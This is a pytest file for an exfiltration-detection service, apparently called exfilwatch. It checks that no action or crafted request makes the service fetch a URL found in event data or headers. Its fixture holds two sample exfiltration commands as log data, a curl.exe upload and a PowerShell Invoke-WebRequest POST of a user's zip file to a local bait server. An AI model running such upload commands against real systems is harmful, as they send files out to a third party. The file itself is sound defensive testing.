"""No URL that comes from an event or from a request is ever fetched (SSRF): a server waits for it in vain."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from tests.cli.telemetry import process, write
from tests.running_meanwhile import answering

from exfilwatch.findings.store import Store
from exfilwatch_playbooks.actions.registry import every

from .asked import Asked, found, site


class Bait:
    """A server that counts who comes."""

    def __init__(self) -> None:
        self.came: list[str] = []
        lock = threading.Lock()
        bait = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                with lock:
                    bait.came.append(self.requestline)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET  # noqa: N815 http.server's names

            def log_message(self, *_args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}/collect"


@pytest.fixture
def bait() -> Iterator[Bait]:
    made = Bait()
    with made.server, answering(made.server):
        yield made


@pytest.fixture
def baited(tmp_path, rules, bait: Bait) -> Iterator[Asked]:
    """Findings whose command lines name the server, as destinations and otherwise."""
    lines = [
        f"curl.exe -F file=@C:\\Users\\anna\\a.zip {bait.url}",
        f"powershell Invoke-WebRequest -Uri {bait.url} -Method POST -InFile C:\\Users\\anna\\a.zip",
    ]
    logs = write(tmp_path / "logs.jsonl", *(process(line, second=2 + at) for at, line in enumerate(lines)))
    findings = found(logs, rules)
    assert findings
    Store(str(tmp_path / "kept.sqlite")).save(findings)
    with site(tmp_path, rules) as made:
        yield made


def test_no_action_fetches_what_an_event_names(baited: Asked, bait: Bait) -> None:
    finding = baited.get("/v1/findings").json()["items"][0]
    incident = baited.get("/v1/incidents").json()["items"][0]
    assert bait.url in baited.get(f"/v1/findings/{finding['id']}").text
    known = {"finding": finding["id"], "incident": incident["id"], "why": bait.url, "note": bait.url, "text": bait.url}
    known |= {"disposition": "benign", "until": "1d", "siem": bait.url, "system": bait.url, "host": bait.url}
    answered = 0
    for each in every():
        if each.name == "get_response_plan":
            known = {**known, "siem": "none", "incident": ""}
        given = {name: known[name] for name in each.input.model_fields if name in known}
        for one in (given, {name: value for name, value in given.items() if value != bait.url}):
            answered += baited.act(each.name, one).status_code == 200
    baited.get(f"/v1/incidents/{incident['id']}/report")
    assert answered > 10
    assert bait.came == []


def test_no_request_leads_the_service_elsewhere(baited: Asked, bait: Bait) -> None:
    headers = dict.fromkeys(("Referer", "Origin", "X-Forwarded-Host", "Forwarded", "X-Original-URL"), bait.url)
    headers |= {"Prefer": f"respond-async; callback={bait.url}"}
    for path in (f"/v1/findings?host={bait.url}&callback={bait.url}", f"/v1/incidents?user={bait.url}", "/v1/rules"):
        assert baited.get(path, headers=headers).status_code == 200
    for body in ({"$ref": bait.url}, {"finding": bait.url}, {"$schema": bait.url, "callback_url": bait.url}):
        assert baited.act("get_finding", body, headers=headers).status_code == 422
    assert bait.came == []
